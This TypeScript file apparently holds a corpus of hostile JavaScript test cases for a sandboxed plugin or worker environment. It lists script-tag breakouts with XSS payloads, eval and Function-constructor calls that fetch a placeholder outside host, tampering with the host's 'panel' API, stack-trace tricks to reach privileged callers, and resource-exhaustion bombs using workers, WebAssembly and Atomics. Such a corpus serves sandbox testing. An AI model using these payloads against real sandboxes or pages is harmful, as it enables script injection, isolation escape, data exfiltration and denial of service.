import type { Family } from './hostile-code.ts';

/** Tries to stand where it should not: outside of its text, its function, its worker. */
export const ESCAPES: Family = {
  'end of a script element': "const a = '</script><script>top.location=`{{stranger}}`</script>';",
  'end of a script element in a comment':
    '// </script><img src={{stranger}}/x.png onerror=alert(1)>',
  'end of a script element in a regex':
    'const a = /<\\/script><script>/; // </SCRIPT ><svg onload=alert(1)>',
  'start of a comment': '// <!--<script>\nconst a = "<!-- <script>";',
  'end of a comment': "const a = '-->'; // --></script>",
  'old comments': '<!-- alert(1)\nlet a = 1;\n--> alert(2)',
  'comment left open by a line': 'let a = 1; //',
  'old comment at the end': 'let a = 1; <!--',
  'end of the JSON': `const a = '"}</script><script>alert(1)//'; const b = "\\"}";`,
  'end of a template': "const a = '`); alert(1); (`'; const b = '${alert(1)}';",
  'line separators': "const a = '\u2028\u2029'; panel.send('{{stranger}}', a);",
  'null and byte order mark': "const a = '\\0\\ufeff\\ud800';",
  'half a surrogate': "const a = '\ud800'; panel.send('{{stranger}}', a);",
  'carriage returns': 'let a = 1;\r// x\rlet b = 2;\r\nthrow a + b;',
  'escaped markup': "const a = '\\u003c/script>\\x3cscript>'; const b = '&lt;/script&gt;';",
  'the name of the data element':
    "document.getElementById('code').textContent = ''; const code = 1;",
  'functions with names of ours':
    'function panel() {} function post() {} function deliver() {} function takeAway() {} panel();',
  'variables with names of the worker':
    'var self = {}, globalThis = {}, onmessage = 1, postMessage = 2, console = null; for (;;) {}',
  'constants with names of timers':
    'const setTimeout = 1, setInterval = 2, Promise = 3, Object = 4; let undefined_ = void 0;',
  'strict mode': "'use strict'; self.x = 1; delete self.panel; panel = 2;",
  'assignment to panel':
    'panel.send = (...a) => fetch(...a); panel.on = null; panel.constructor.prototype.x = 1; panel = null; self.panel = null;',
  eval: "eval('for (;;) {}');",
  'indirect eval': '(0, eval)("fetch(\'{{stranger}}/\')");',
  'evals without end': "for (;;) try { (0, self.eval)('1'); } catch {}",
  'function constructor': "new Function('return fetch')()('{{stranger}}/');",
  'constructor of a constructor':
    "({}).constructor.constructor('return this')().fetch('{{stranger}}/');",
  'constructor of an async function':
    '(async () => {}).constructor(\'await fetch("{{stranger}}/")\')();',
  'constructor of a generator': "(function* () {}).constructor('for (;;) {}')().next();",
  'constructor of an async generator':
    "(async function* () {}).constructor('for (;;) {}')().next();",
  'constructor of a class': "(class {}).constructor('return 1')();",
  'constructor of a native': "panel.on.constructor('return self')(); Math.max.constructor('x')();",
  'constructor by reflection':
    "Reflect.construct(Object.getPrototypeOf(async () => {}).constructor, ['for (;;) {}'])();",
  'constructors without end': "for (;;) try { (() => {}).constructor('1')(); } catch {}",
  'timer of a text': "setTimeout(\"fetch('{{stranger}}/')\", 0); setInterval('for (;;) {}', 0);",
  'timers of texts without end': "for (;;) try { setTimeout('1'); } catch {}",
  'timer off the prototype':
    "Object.getPrototypeOf(Object.getPrototypeOf(self)).setTimeout.call(self, 'for (;;) {}', 0);",
  'shadow realm': "new ShadowRealm().evaluate('for (;;) {}');",
  'worker spam': "for (;;) new Worker(URL.createObjectURL(new Blob(['for (;;) {}'])));",
  'worker spam from data':
    "for (let i = 0; i < 100; i += 1) new Worker('data:text/javascript,for(;;){}');",
  'worker by the constructor of an event':
    "panel.on('page.viewed', function () { new arguments.callee.caller.constructor('for (;;) {}')(); });",
  'worker scope by its prototype':
    'new (Object.getPrototypeOf(self).constructor)(); new (Object.getPrototypeOf(Object.getPrototypeOf(self)).constructor)();',
  'wasm module': 'new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]));',
  'wasm memory': 'const a = []; for (;;) a.push(new WebAssembly.Memory({ initial: 65536 }));',
  'wasm memory shared':
    'Atomics.wait(new Int32Array(new WebAssembly.Memory({ initial: 1, maximum: 1, shared: true }).buffer), 0, 0);',
  'wasm bomb':
    'const w = WebAssembly; const b = new Uint8Array(1e6).fill(97); for (;;) w.validate(b);',
  'shared buffer': 'new SharedArrayBuffer(2 ** 30);',
  'atomics wait': 'Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0);',
  'atomics wait on what it has': 'Atomics.wait(new Int32Array(4), 0, 0);',
  'precise clock':
    'const c = new Int32Array(new SharedArrayBuffer(4)); for (;;) Atomics.add(c, 0, 1);',
  'stack that tells its callers':
    "Error.prepareStackTrace = (_e, sites) => sites.map((s) => s.getThis() ?? s.getFunction()); for (const s of new Error().stack ?? []) s?.fetch?.('{{stranger}}/');",
  'stack inside of ours':
    "Error.prepareStackTrace = (_e, sites) => { for (const s of sites) try { s.getFunction()('{{stranger}}'); } catch {} return ''; }; panel.on('x', 1);",
  'caller of a callback': "panel.on('page.viewed', function f() { f.caller.caller(); });",
  'stack limit':
    'Error.stackTraceLimit = 1e9; (function f() { try { f(); } finally { new Error().stack; } })();',
};
